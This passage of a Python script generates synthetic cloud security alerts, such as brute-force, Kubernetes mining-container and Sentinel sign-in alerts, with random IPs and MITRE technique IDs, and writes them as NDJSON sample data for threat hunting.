                              "currency mining pool.", [ent_resource(2, AKS)],
                              {"Suspicious Process": "/tmp/.k/kdevtmpfsi", "Mining Pool": POOL,
                               "Pod": "node-agent-x-zc81d", "Namespace": "kube-system",
                               "resourceType": "Kubernetes Service"},
                              "Impact", ["T1496"], "Containers"))
    return rows


def alerts_background():
    rows = []
    kinds = [
        ("Failed SSH brute force attack", "SSH_BruteForceFailed", "Medium", "Servers",
         "PreAttack", ["T1110"], lambda: rnd.choice(VMS[:2])),
        ("Suspicious authentication activity", "VM_LoginBruteForce", "Medium", "Servers",
         "CredentialAccess", ["T1110"], lambda: VMS[2]),
        ("Access from an unusual location to a storage account", "Storage.Blob_GeoAnomaly",
         "Low", "Storage", "Exfiltration", ["T1530"], lambda: LOGS),
        ("Exposed Kubernetes dashboard detected", "K8S_ExposedDashboard", "High", "Containers",
         "InitialAccess", ["T1133"], lambda: AKS),
        ("Anomalous pod deployment (Preview)", "K8S_AnomalousPodDeployment", "Medium",
         "Containers", "Execution", ["T1610"], lambda: GKE),
        ("Digital currency mining container detected", "K8S_MaliciousContainerImage", "High",
         "Containers", "Execution", ["T1610"], lambda: EKS),
        ("Unusual deletion in a storage account", "Storage.Blob_AnomalyDeletion", "Low",
         "Storage", "Impact", ["T1485"], lambda: LOGS),
    ]
    for _ in range(150):
        name, atype, sev, comp, tac, tech, rid_fn = rnd.choice(kinds)
        rid = rid_fn()
        t = background_time()
        ip = "%d.%d.%d.%d" % (rnd.choice([45, 80, 103, 141, 193]), rnd.randrange(256),
                              rnd.randrange(256), rnd.randrange(1, 255))
        entity = rid.rsplit("/", 1)[-1]
        ent = [ent_resource(2, rid) if rid.startswith("/subscriptions") else
               {"$id": "2", "CloudResource": rid, "Type": "cloud-resource"},
               {"$id": "3", "Address": ip, "Type": "ip"}]
        props = {"resourceType": {"Servers": "Virtual Machine", "Storage": "Storage Account",
                                  "Containers": "Kubernetes Service"}[comp],
                 "Attacker IP": ip}
        if comp == "Servers":
            props["Number of failed authentication attempts"] = str(rnd.randrange(20, 900))
        rows.append(asc_alert(t, name, atype, sev, rid, entity, name + " on " + entity + ".",
                              ent, props, tac, tech, comp,
                              status=rnd.choice(["New", "Resolved", "Dismissed", "Resolved"])))
    for _ in range(60):  # Sentinel scheduled rules
        t = background_time()
        user = rnd.choice(sorted(USERS))
        name = rnd.choice(["Multiple failed sign-ins for a user", "Sign-in from a new country",
                           "Mass download by a single user"])
        gen = t + timedelta(minutes=5)
        rule = str(uuid.uuid5(uuid.NAMESPACE_URL, "hunt-sample-rule:" + name))
        rows.append({"AlertLink": "", "AlertName": name, "AlertSeverity": "Medium",
                     "AlertType": rule, "CompromisedEntity": user, "ConfidenceLevel": "",
                     "ConfidenceScore": None, "Description": name + " (" + user + ").",
                     "DisplayName": name, "EndTime": ts(t),
                     "Entities": compact([{"$id": "3", "Name": user.split("@")[0],
                                           "UPNSuffix": "contoso.com", "AadUserId":
                                           USERS[user][0], "Type": "account"}]),
                     "ExtendedLinks": "",
                     "ExtendedProperties": compact({"Query Period": "01:00:00",
                                                    "Trigger Operator": "GreaterThan",
                                                    "Trigger Threshold": "0",
                                                    "ProcessedBySentinel": "True"}),
                     "IsIncident": False, "ProcessingEndTime": ts(gen),
                     "ProductComponentName": "Scheduled Alerts", "ProductName": "Azure Sentinel",
                     "ProviderName": "ASI Scheduled Alerts", "RemediationSteps": "",
                     "ResourceId": "", "SourceComputerId": "", "SourceSystem": "Detection",
                     "StartTime": ts(t - timedelta(hours=1)),
                     "Status": rnd.choice(["New", "Resolved"]), "SubTechniques": "",
                     "SystemAlertId": guid(), "Tactics": "InitialAccess",
                     "Techniques": '["T1078"]', "TenantId": TENANT, "TimeGenerated": ts(gen),
                     "Type": "SecurityAlert", "VendorName": "Microsoft",
                     "VendorOriginalId": guid(), "WorkspaceResourceGroup": "",
                     "WorkspaceSubscriptionId": ""})
    return rows


def write(outdir, name, rows, key):
    rows.sort(key=lambda r: r[key])
    path = os.path.join(outdir, name + ".ndjson")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r) + "\n")
    print("%s: %d rows" % (path, len(rows)))


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else "samples/data"
    os.makedirs(outdir, exist_ok=True)
    # one generator, fixed call order: each table's rows come out the same
    audit = audit_background() + audit_attack()
    procs = process_background() + process_attack()
    alerts = alerts_background() + alerts_attack()
    write(outdir, "CloudAuditEvents", audit, "Timestamp")
    write(outdir, "CloudProcessEvents", procs, "Timestamp")
    write(outdir, "SecurityAlert", alerts, "TimeGenerated")


if __name__ == "__main__":
    main()
